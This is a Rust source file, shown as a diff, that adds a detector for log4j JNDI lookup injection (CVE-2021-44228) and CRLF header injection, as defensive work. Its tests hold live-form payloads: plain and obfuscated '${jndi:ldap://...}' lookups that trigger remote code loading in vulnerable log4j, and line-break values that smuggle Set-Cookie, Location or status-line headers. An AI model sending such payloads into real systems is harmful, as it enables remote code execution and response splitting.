@@ -1,0 +1,110 @@
+//! JNDI lookups as log4j 2 resolves them (CVE-2021-44228), and line breaks that start a header.
+
+use crate::bytes::{at, between, find, from, is_space, is_word, starts, word_end};
+use crate::finding::{Family, Finding};
+
+/// Looks for `${jndi:...}`, nested lookups that build it included. Linear in the value's length.
+pub fn lookup(value: &[u8]) -> Option<Finding> {
+    let mut index = find(value, b"${", 0)?;
+    let first = index;
+    let mut nested = 0_u32;
+    loop {
+        let body = skip_blank(value, index + 2);
+        let rest = from(value, body);
+        if starts(rest, b"jndi:") {
+            return Some(Finding::new(Family::Lookup, 98, "jndi", index));
+        }
+        // `${lower:j}`, `${env:X:-j}`, `${::-j}`: only a lookup inside of a lookup has a reason to build letters.
+        let builds = starts(rest, b"lower:") || starts(rest, b"upper:") || starts(rest, b"::-") || defaulted(rest);
+        nested += u32::from(builds);
+        index = match find(value, b"${", index + 2) {
+            Some(next) => next,
+            None => break,
+        };
+    }
+    let inside = from(value, first + 2);
+    let glued = starts(inside, b"${") || at(inside, 0).is_ascii_alphabetic() && starts(from(inside, word_end(inside, 0)), b"${");
+    (nested >= 2 || nested == 1 && glued).then(|| Finding::new(Family::Lookup, 92, "nested-lookup", first))
+}
+
+fn skip_blank(value: &[u8], mut index: usize) -> usize {
+    while index < value.len() && is_space(at(value, index)) {
+        index += 1;
+    }
+    index
+}
+
+fn defaulted(rest: &[u8]) -> bool {
+    let head = between(rest, 0, 48);
+    let end = head.iter().position(|b| matches!(b, b'}' | b'$')).unwrap_or(head.len());
+    let inside = between(head, 0, end);
+    find(inside, b":-", 0).is_some_and(|at_index| find(between(inside, 0, at_index), b":", 0).is_some())
+        || starts(inside, b"date:'")
+}
+
+/// Looks for a line break with a header or a page behind it. Linear in the value's length.
+pub fn header_break(value: &[u8]) -> Option<Finding> {
+    let mut index = 0;
+    while let Some(offset) = from(value, index).iter().position(|b| matches!(b, b'\r' | b'\n')) {
+        let start = index + offset;
+        let mut line = start;
+        while matches!(at(value, line), b'\r' | b'\n' | b' ' | b'\t') && line < start + 16 {
+            line += 1;
+        }
+        if is_header(from(value, line)) {
+            return Some(Finding::new(Family::Header, 88, "header-break", start));
+        }
+        index = start + 1;
+    }
+    None
+}
+
+/// A header that an attacker wants to set, or a status line.
+fn is_header(line: &[u8]) -> bool {
+    const WANTED: [&[u8]; 12] = [
+        b"set-cookie", b"location", b"content-type", b"content-length", b"transfer-encoding", b"host", b"refresh",
+        b"x-forwarded-", b"access-control-", b"content-disposition", b"bcc", b"x-xss-protection",
+    ];
+    if starts(line, b"http/1.") && at(line, 8) == b' ' {
+        return true;
+    }
+    WANTED.iter().any(|name| {
+        let mut end = name.len();
+        while starts(line, name) && name.ends_with(b"-") && (is_word(at(line, end)) || at(line, end) == b'-') {
+            end += 1;
+        }
+        starts(line, name) && at(line, end) == b':'
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn lookups_are_seen_through() {
+        for attack in [
+            "${jndi:ldap://x/a}",
+            "${${lower:j}ndi:ldap://x}",
+            "${${::-j}${::-n}di:rmi://x}",
+            "x ${ jndi:dns://x }",
+            "${j${lower:n}di:${upper:l}dap://x}",
+            "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x}",
+        ] {
+            assert!(lookup(attack.as_bytes()).is_some(), "{attack}");
+        }
+        for fine in ["${name}", "${HOME}/x", "costs $5 {net}", "jndi: see below", "${a} and ${b:-c}", "${env:PATH}"] {
+            assert!(lookup(fine.as_bytes()).is_none(), "{fine}");
+        }
+    }
+
+    #[test]
+    fn headers_behind_a_break() {
+        for attack in ["x\r\nSet-Cookie: a=b", "x\nLocation:http://x", "x\r\n\r\nHTTP/1.1 200 OK", "a\rX-Forwarded-Host: b"] {
+            assert!(header_break(attack.as_bytes()).is_some(), "{attack}");
+        }
+        for fine in ["line\nline: two", "Dear host,\r\nthe location is: here", "a\nhosts: b"] {
+            assert!(header_break(fine.as_bytes()).is_none(), "{fine}");
+        }
+    }
+}
